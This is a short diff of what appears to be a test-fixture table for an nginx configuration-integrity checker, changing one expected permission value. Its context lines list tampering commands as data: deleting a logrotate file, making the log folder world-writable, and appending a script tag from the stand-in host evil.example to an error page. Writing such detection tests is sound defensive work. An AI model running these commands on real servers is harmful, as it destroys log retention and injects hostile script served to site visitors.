@@ -59,7 +59,7 @@ MUTATIONS = {
         "zz.conf",
     ),
     "log rotation deleted": ("rm /etc/logrotate.d/nginx", "nginx-logs-rotated", "New file"),
-    "log folder opened": ("chmod 0777 /var/log/nginx", "nginx-logs-private", "0750"),
+    "log folder opened": ("chmod 0777 /var/log/nginx", "nginx-logs-private", "0751"),
     "unavailable page edited": (
         "echo '<script src=//evil.example></script>' >> /usr/local/share/giggles/web/giggles-unavailable.html",
         "nginx-unavailable-page",
